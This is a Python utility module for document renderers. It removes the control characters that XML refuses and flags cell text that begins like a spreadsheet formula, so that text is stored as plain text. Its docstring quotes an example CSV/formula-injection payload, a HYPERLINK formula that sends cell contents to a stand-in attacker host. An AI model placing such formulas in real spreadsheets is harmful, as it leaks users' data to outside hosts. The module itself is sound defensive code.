"""Text made safe for the document files, in one place for the three renderers.

``xml_text``: Word (python-docx: "All strings must be XML compatible"), Excel (openpyxl: ``IllegalCharacterError``)
and the PDF's HTML refuse the C0 control characters other than tab, line feed and carriage return (a "\\x0b" pasted
from Word, a "\\x00" from a broken import). They are dropped, by openpyxl's own rule (``ILLEGAL_CHARACTERS_RE``).

``is_formula_like``: a spreadsheet takes a cell starting with "=", "+", "-", "@", a tab or a carriage return as a
formula (CSV/formula injection, e.g. ``=HYPERLINK("http://evil.example/?x="&A1,"Bấm")``); the XLSX renderer stores
such a text as a plain string.
"""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def xml_text(value) -> str:
    """``value`` as text without the characters XML refuses (None → "")."""
    if value is None:
        return ""
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def is_formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)
